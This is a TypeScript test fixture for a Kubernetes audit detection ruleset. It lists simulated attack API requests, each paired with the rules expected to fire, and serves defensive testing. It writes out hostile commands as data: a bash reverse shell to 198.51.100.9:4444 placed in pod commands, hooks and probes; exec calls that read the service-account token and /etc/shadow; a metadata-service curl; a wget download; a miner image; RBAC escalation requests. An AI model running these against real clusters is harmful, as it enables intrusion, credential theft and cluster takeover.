/** Attacks of kinds other than hostPID, each with the rules that have to find it. */
import { type Act, deployment, deployments, media, pod, podOnNode, podSpec, pods, selector, template } from './acts.ts';

const rbac = '/apis/rbac.authorization.k8s.io/v1';
const shop = '/api/v1/namespaces/shop';

const by = (as: Act['as'], name: string, rules: string[], request: string, more: Partial<Act> = {}): Act => ({
  name,
  as,
  rules,
  request,
  code: request.startsWith('POST') ? 201 : 200,
  ...more,
});
const mallory = (name: string, rules: string[], request: string, more: Partial<Act> = {}) =>
  by('mallory', name, rules, request, more);
const aPod = (name: string, rules: string[], more: object, container: object = {}) =>
  mallory(`pod: ${name}`, rules, `POST ${pods}`, { body: pod(more, container) });
const named = (object: object) => ({ metadata: { name: '$name' }, ...object });

const exec = (command: string) =>
  `POST ${pods}/$name/exec?${command
    .split(' ')
    .map((word) => `command=${encodeURIComponent(word)}`)
    .join('&')}&container=web&stdin=true&stdout=true`;
const inPod = (name: string, rules: string[], request: string) =>
  mallory(name, rules, request, { given: podOnNode, upgrade: 'SPDY/3.1', code: 101 });

const reverseShell = ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'];

const role = (name: string, rules: string[], permissions: object) =>
  mallory(`role: ${name}`, rules, `POST ${rbac}/clusterroles`, { body: named({ rules: [permissions] }) });
const binding = (name: string, rules: string[], roleName: string, subject: object, more: Partial<Act> = {}) =>
  mallory(`binding: ${name}`, rules, `POST ${rbac}/clusterrolebindings`, {
    body: named({
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: roleName },
      subjects: [{ apiGroup: 'rbac.authorization.k8s.io', ...subject }],
    }),
    ...more,
  });

const user = (name: string) => ({ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name });
const clusterAdmin = (name: string) =>
  named({
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [user(name)],
  });

/** PEM in Base64, of the subjects /O=system:masters/CN=mallory and /CN=system:kube-controller-manager. */
const certificateRequests = {
  masters:
    'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIbE1JR05BZ0VBTUNzeEZ6QVZCZ05WQkFvTURuTjVjM1JsYlRwdFlYTjBaWEp6' +
    'TVJBd0RnWURWUVFEREFkdApZV3hzYjNKNU1Ga3dFd1lIS29aSXpqMENBUVlJS29aSXpqMERBUWNEUWdBRW5pZVdBVUJWZTkvV0RBMWRRYmtCCnpn' +
    'RktBNmhMc2Z3c3FhUTYzS3dHNForTE1JSklkOVJKRXhWU3pXVnQrdU0zeEJLZk5maDBvZ2RMZE96dzQ1bC8KamFBQU1Bb0dDQ3FHU000OUJBTUNB' +
    'MGNBTUVRQ0lDellQVTVOUkhwYnUxTE5nRng0ZVc4Rll6MkY3SDNLRkp6QgpaNXZFTjFveEFpQWFOTGpnaVdLSkNwZTExdVYyOFVIeXFPanBIN2pQ' +
    'SlZIWVlaMUxlUmFQMUE9PQotLS0tLUVORCBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K',
  controllerManager:
    'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIa01JR0xBZ0VBTUNreEp6QWxCZ05WQkFNTUhuTjVjM1JsYlRwcmRXSmxMV0' +
    '52Ym5SeWIyeHNaWEl0YldGdQpZV2RsY2pCWk1CTUdCeXFHU000OUFnRUdDQ3FHU000OUF3RUhBMElBQko0bmxnRkFWWHZmMWd3TlhVRzVBYzRC' +
    'ClNnT29TN0g4TEtta090eXNCdUdmaXpDQ1NIZlVTUk1WVXMxbGJmcmpOOFFTbnpYNGRLSUhTM1RzOE9PWmY0MmcKQURBS0JnZ3Foa2pPUFFRRE' +
    'FnTklBREJGQWlCd052V0taUEkxekczUmU0WnhKVTBjK1NKNG95a0xDSy9NMTBCTwpZQUVOZ2dJaEFJRS9RbC9hTmVpYnFVTWZ6aDIzRlo2VEl5' +
    'WFdXNTlYbHE1ZDcwUzVPUkhLCi0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo=',
};
const csrs = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
const csr = (request: string) =>
  named({ spec: { request, signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] } });
const webhooks = '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations';
const secret: [string, object] = [`${shop}/secrets`, named({ stringData: { password: 'changeme' } })];

export const attacks: Act[] = [
  aPod('host network', ['pod-host-network'], { hostNetwork: true }),
  aPod('host IPC', ['pod-host-ipc'], { hostIPC: true }),
  aPod('privileged', ['pod-privileged'], {}, { securityContext: { privileged: true } }),
  aPod('capability', ['pod-dangerous-capabilities'], {}, { securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }),
  aPod('root of the node', ['pod-hostpath-sensitive'], { volumes: [{ name: 'root', hostPath: { path: '/' } }] }),
  aPod('socket of the runtime', ['pod-hostpath-sensitive'], {
    volumes: [{ name: 'socket', hostPath: { path: '/run/containerd/containerd.sock' } }],
  }),
  aPod('runs as root', ['pod-runs-as-root'], { securityContext: { runAsUser: 0 } }, { securityContext: {} }),
  aPod(
    'procfs unmasked',
    ['pod-proc-mount-unmasked'],
    { hostUsers: false },
    { securityContext: { procMount: 'Unmasked' } },
  ),
  aPod('privileged, before it starts', ['pod-privileged'], {
    initContainers: [{ name: 'init', image: 'busybox', securityContext: { privileged: true } }],
  }),
  aPod('reverse shell', ['pod-created-reverse-shell-args'], {}, { command: reverseShell }),
  aPod(
    'reverse shell, after it starts',
    ['pod-created-reverse-shell-args'],
    {},
    {
      lifecycle: { postStart: { exec: { command: reverseShell } } },
    },
  ),
  aPod(
    'reverse shell, as a probe',
    ['pod-created-reverse-shell-args'],
    {},
    {
      livenessProbe: { exec: { command: reverseShell } },
    },
  ),
  aPod('miner', ['cryptomining-container'], {}, { image: 'docker.io/xmrig/xmrig:6.22' }),
  mallory('pod: in a system namespace', ['pod-created-system-namespace'], 'POST /api/v1/namespaces/kube-system/pods', {
    body: pod(),
  }),
  mallory(
    'pod: account of a controller',
    ['pod-controller-serviceaccount'],
    'POST /api/v1/namespaces/kube-system/pods',
    {
      body: pod({ serviceAccountName: 'clusterrole-aggregation-controller' }),
    },
  ),
  by(
    'thief',
    'pod: token of a controller, in a system namespace',
    ['controller-token-foreign-client'],
    'POST /api/v1/namespaces/kube-system/pods',
    {
      body: pod({ hostNetwork: true }),
    },
  ),
  mallory('pod: ephemeral container', ['pod-ephemeral-container'], `PATCH ${pods}/$name/ephemeralcontainers`, {
    given: [pods, pod()],
    type: media.strategicMergePatch,
    body: {
      spec: { ephemeralContainers: [{ name: 'debug', image: 'busybox', securityContext: { privileged: true } }] },
    },
  }),
  mallory(
    'pod: ephemeral container, applied',
    ['pod-ephemeral-container'],
    `PATCH ${pods}/$name/ephemeralcontainers?fieldManager=x`,
    {
      given: [pods, pod()],
      type: media.applyPatch,
      body: {
        ...{ apiVersion: 'v1', kind: 'Pod', metadata: { name: '$name' } },
        spec: { ephemeralContainers: [{ name: 'debug', image: 'busybox' }] },
      },
    },
  ),
  mallory('pod: image changed by JSON Patch', ['cryptomining-container'], `PATCH ${pods}/$name`, {
    given: [pods, pod()],
    type: media.jsonPatch,
    body: [{ op: 'replace', path: '/spec/containers/0/image', value: 'docker.io/xmrig/xmrig:6.22' }],
  }),
  mallory('volume: root of the node', ['pod-hostpath-sensitive'], 'POST /api/v1/persistentvolumes', {
    body: named({
      spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '//' } },
    }),
  }),
  mallory('pod: bound by hand', ['pod-binding-created'], `POST ${pods}/$name/binding`, {
    given: [pods, pod()],
    body: named({ target: { kind: 'Node', name: 'n1' } }),
  }),
  mallory(
    'workload: privileged, in a DaemonSet',
    ['pod-privileged', 'daemonset-created'],
    'POST /apis/apps/v1/namespaces/shop/daemonsets',
    {
      body: named({
        spec: {
          selector,
          template: {
            ...template(),
            spec: podSpec({}, { securityContext: { privileged: true } }),
          },
        },
      }),
    },
  ),
  mallory('workload: privileged, by JSON Patch', ['pod-privileged'], `PATCH ${deployments}/$name`, {
    given: [deployments, deployment()],
    type: media.jsonPatch,
    body: [{ op: 'replace', path: '/spec/template/spec/containers/0/securityContext', value: { privileged: true } }],
  }),
  mallory('workload: container added', ['workload-sidecar-patched'], `PATCH ${deployments}/$name`, {
    given: [deployments, deployment()],
    type: media.strategicMergePatch,
    body: { spec: { template: { spec: { containers: [{ name: 'helper', image: 'registry.example.net/helper' }] } } } },
  }),

  inPod('exec: shell', ['pod-exec', 'pod-exec-shell-binary'], exec('/bin/bash -i')),
  inPod(
    'exec: shell, everything escaped',
    ['pod-exec-shell-binary'],
    `POST ${pods}/$name/exec?comm%61nd=%2fbin%2fb%61sh&container=web&stdout=true`,
  ),
  mallory('exec: shell, by WebSocket', ['pod-exec', 'pod-exec-shell-binary'], exec('sh').replace('POST', 'GET'), {
    given: podOnNode,
    upgrade: 'websocket',
    headers: {
      'sec-websocket-version': '13',
      'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
      'sec-websocket-protocol': 'v5.channel.k8s.io',
    },
    code: 101,
  }),
  inPod('exec: reverse shell', ['pod-exec-reverse-shell'], exec('bash -c bash+-i+>&+/dev/tcp/198.51.100.9/4444+0>&1')),
  inPod(
    'exec: token',
    ['pod-exec-serviceaccount-token'],
    exec('cat /var/run/secrets/kubernetes.io/serviceaccount/token'),
  ),
  inPod('exec: metadata service', ['pod-exec-cloud-metadata'], exec('curl http://169.254.169.254/latest/meta-data/')),
  inPod('exec: download', ['pod-exec-download-tool'], exec('wget http://198.51.100.9/tool')),
  inPod('exec: sensitive file', ['pod-exec-sensitive-file'], exec('cat /etc/shadow')),
  inPod('attach', ['pod-attach'], `POST ${pods}/$name/attach?container=web&stdout=true`),
  inPod('port forward', ['pod-portforward'], `POST ${pods}/$name/portforward`),
  by('eve', 'exec: refused', ['pod-exec'], exec('id'), { given: podOnNode, code: 403 }),

  mallory('node proxy: pods', ['node-proxy-access'], 'GET /api/v1/nodes/n1/proxy/pods'),
  mallory('node proxy: run', ['kubelet-proxy-command'], 'POST /api/v1/nodes/n1/proxy/run/shop/web/web?cmd=id', {
    code: 200,
  }),
  mallory(
    'node proxy: run behind dots',
    ['kubelet-proxy-command'],
    'POST /api/v1/nodes/n1/proxy/metrics/../run/shop/web/web?cmd=id',
    {
      code: 200,
    },
  ),
  mallory(
    'node proxy: run behind two slashes',
    ['kubelet-proxy-command'],
    'POST /api/v1/nodes/n1/proxy//run/shop/web/web?cmd=id',
    {
      code: 200,
    },
  ),
  mallory(
    'node proxy: run, escaped',
    ['kubelet-proxy-command'],
    'POST /api/v1/nodes/n1/proxy/%72un/shop/web/web?cmd=id',
    {
      code: 200,
    },
  ),

  mallory(
    'secrets: of kube-system',
    ['secrets-list-sensitive-namespace'],
    'GET /api/v1/namespaces/kube-system/secrets',
  ),
  mallory('secrets: by a script', ['secret-read-scripting-client'], `GET ${shop}/secrets/$name`, {
    given: secret,
    headers: { 'user-agent': 'python-requests/2.32.3' },
  }),
  by('eve', 'secrets: refused', ['secret-access-denied'], `GET ${shop}/secrets/$name`, { given: secret, code: 403 }),
  mallory('secrets: deleted', ['secret-changed'], `DELETE ${shop}/secrets/$name`, { given: secret }),
  mallory(
    'secrets: token of an account',
    ['serviceaccount-token-request'],
    `POST ${shop}/serviceaccounts/$name/token`,
    {
      given: [`${shop}/serviceaccounts`, named({})],
      body: { spec: { expirationSeconds: 31_536_000 } },
    },
  ),
  mallory('configuration: credentials', ['configmap-with-credentials'], `POST ${shop}/configmaps`, {
    body: named({ data: { 'app.ini': 'password = "correct-horse-battery"\n' } }),
  }),
  mallory('secrets: bootstrap token', ['bootstrap-token-written'], 'POST /api/v1/namespaces/kube-system/secrets', {
    body: {
      metadata: { name: 'bootstrap-token-abcdef' },
      type: 'bootstrap.kubernetes.io/token',
      stringData: { 'token-id': 'abcdef', 'token-secret': '0123456789abcdef' },
    },
  }),
  mallory('configuration: credentials by their key', ['configmap-with-credentials'], `POST ${shop}/configmaps`, {
    body: named({ data: { password: 'correct-horse-battery' } }),
  }),
  mallory('configuration: DNS', ['coredns-config-changed'], 'PATCH /api/v1/namespaces/kube-system/configmaps/coredns', {
    given: [
      '/api/v1/namespaces/kube-system/configmaps',
      { metadata: { name: 'coredns' }, data: { Corefile: '.:53 {}' } },
    ],
    type: media.mergePatch,
    body: { data: { Corefile: '.:53 { forward . 198.51.100.9 }' } },
  }),

  role('wildcard', ['role-wildcard'], { apiGroups: ['*'], resources: ['*'], verbs: ['*'] }),
  role('exec', ['role-pod-exec'], { apiGroups: [''], resources: ['pods/exec'], verbs: ['create'] }),
  role('node proxy', ['role-node-proxy'], { apiGroups: [''], resources: ['nodes/proxy'], verbs: ['get'] }),
  role('Secrets', ['role-sensitive-permissions'], { apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }),
  role('impersonate', ['role-sensitive-permissions'], {
    apiGroups: [''],
    resources: ['users'],
    verbs: ['impersonate'],
  }),
  mallory('role: widened by JSON Patch', ['role-wildcard'], `PATCH ${rbac}/clusterroles/$name`, {
    given: [`${rbac}/clusterroles`, named({ rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['get'] }] })],
    type: media.jsonPatch,
    body: [{ op: 'add', path: '/rules/-', value: { apiGroups: ['*'], resources: ['*'], verbs: ['*'] } }],
  }),
  mallory('role: widened by a verb', ['role-wildcard'], `PATCH ${rbac}/clusterroles/$name`, {
    given: [`${rbac}/clusterroles`, named({ rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['get'] }] })],
    type: media.jsonPatch,
    body: [{ op: 'add', path: '/rules/0/verbs/-', value: '*' }],
  }),
  role('signs certificates', ['role-sensitive-permissions'], {
    apiGroups: ['certificates.k8s.io'],
    resources: ['signers'],
    verbs: ['approve', 'sign'],
  }),
  mallory('role: of the system', ['system-role-changed'], `PATCH ${rbac}/clusterroles/system:discovery`, {
    type: media.mergePatch,
    body: { metadata: { labels: { changed: 'yes' } } },
  }),
  by('trudy', 'role: refused escalation', ['rbac-escalation-refused'], `POST ${rbac}/clusterroles`, {
    body: named({ rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] }),
    code: 403,
  }),
  binding('cluster-admin', ['binding-cluster-admin'], 'cluster-admin', { kind: 'User', name: 'mallory' }),
  mallory(
    'binding: subject added by JSON Patch',
    ['binding-cluster-admin'],
    `PATCH ${rbac}/clusterrolebindings/$name`,
    {
      given: [`${rbac}/clusterrolebindings`, clusterAdmin('ann')],
      type: media.jsonPatch,
      body: [{ op: 'add', path: '/subjects/-', value: user('mallory') }],
    },
  ),
  mallory('binding: applied', ['binding-cluster-admin'], `PATCH ${rbac}/clusterrolebindings/$name?fieldManager=x`, {
    type: media.applyPatch,
    body: { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', ...clusterAdmin('mallory') },
    code: 201,
  }),
  binding('anonymous', ['binding-to-anonymous'], 'system:discovery', { kind: 'User', name: 'system:anonymous' }),
  binding(
    'refused escalation',
    ['rbac-escalation-refused'],
    'cluster-admin',
    { kind: 'User', name: 'trudy' },
    {
      as: 'trudy',
      code: 403,
    },
  ),

  mallory('impersonation: of an administrator', ['impersonate-privileged'], `GET ${pods}`, {
    headers: { 'impersonate-user': 'root', 'impersonate-group': 'system:masters' },
  }),
  mallory('impersonation: of a controller', ['impersonate-privileged'], `GET ${pods}`, {
    headers: { 'impersonate-user': 'system:kube-controller-manager' },
  }),
  by('eve', 'impersonation: refused', ['impersonation-refused'], `GET ${pods}`, {
    headers: { 'impersonate-user': 'root', 'impersonate-group': 'system:masters' },
    code: 403,
  }),
  mallory(
    'certificate: for the controller manager',
    ['csr-privileged-identity', 'csr-client-auth-created'],
    `POST ${csrs}`,
    {
      body: csr(certificateRequests.controllerManager),
    },
  ),
  mallory('certificate: for administrators, refused', ['csr-privileged-identity'], `POST ${csrs}`, {
    body: csr(certificateRequests.masters),
    code: 403,
  }),
  by('admin', 'certificate: approved by who asked for it', ['csr-self-approved'], `PUT ${csrs}/$name/approval`, {
    given: [csrs, csr(certificateRequests.controllerManager)],
    body: {
      ...csr(certificateRequests.controllerManager),
      status: { conditions: [{ type: 'Approved', status: 'True', reason: 'Approved', message: 'by hand' }] },
    },
  }),

  mallory('admission: webhook', ['admission-webhook-changed'], `POST ${webhooks}`, {
    body: named({
      webhooks: [
        {
          name: 'hook.example.net',
          clientConfig: { url: 'https://hook.example.net/mutate' },
          rules: [{ apiGroups: ['*'], apiVersions: ['*'], operations: ['CREATE'], resources: ['*'] }],
          // No namespace has this label, so that later acts are not affected.
          namespaceSelector: { matchLabels: { hooked: 'yes' } },
          objectSelector: { matchLabels: { hooked: 'yes' } },
          failurePolicy: 'Ignore',
          sideEffects: 'None',
          admissionReviewVersions: ['v1'],
        },
      ],
    }),
  }),
  mallory(
    'aggregation: API without verification',
    ['apiservice-insecure-tls'],
    'POST /apis/apiregistration.k8s.io/v1/apiservices',
    {
      body: {
        metadata: { name: 'v1.$name.example.net' },
        spec: {
          group: '$name.example.net',
          version: 'v1',
          groupPriorityMinimum: 100,
          versionPriority: 100,
          insecureSkipTLSVerify: true,
          service: { namespace: 'shop', name: 'api' },
        },
      },
    },
  ),
  mallory('network: NodePort', ['service-nodeport'], `POST ${shop}/services`, {
    body: named({ spec: { type: 'NodePort', selector: { app: 'web' }, ports: [{ port: 80 }] } }),
  }),
  mallory('network: external address', ['service-external-address'], `POST ${shop}/services`, {
    body: named({ spec: { externalIPs: ['192.0.2.1'], selector: { app: 'web' }, ports: [{ port: 80 }] } }),
  }),
  mallory(
    'network: policy deleted',
    ['network-policy-changed'],
    'DELETE /apis/networking.k8s.io/v1/namespaces/shop/networkpolicies/$name',
    {
      given: ['/apis/networking.k8s.io/v1/namespaces/shop/networkpolicies', named({ spec: { podSelector: {} } })],
    },
  ),
  mallory('tracks: Events deleted', ['events-deleted'], `DELETE ${shop}/events`),
  mallory('destruction: namespace', ['namespace-deleted'], 'DELETE /api/v1/namespaces/$name', {
    given: ['/api/v1/namespaces', named({})],
  }),

  mallory('discovery: tool', ['recon-tool-user-agent'], `GET ${pods}`, {
    headers: { 'user-agent': 'kube-hunter/0.6.8' },
  }),
  mallory(
    'discovery: permissions',
    ['self-subject-rules-review'],
    'POST /apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
    {
      body: { spec: { namespace: 'shop' } },
    },
  ),
  by('nobody', 'anonymous: refused', ['anonymous-request-denied'], 'GET /api/v1/secrets', { code: 403 }),
  by('nobody', 'anonymous: allowed', ['anonymous-request-allowed'], 'GET /api/v1/namespaces/public/pods'),
  by('stranger', 'unauthenticated', ['request-unauthorized'], 'GET /api/v1/secrets', { code: 401 }),
];
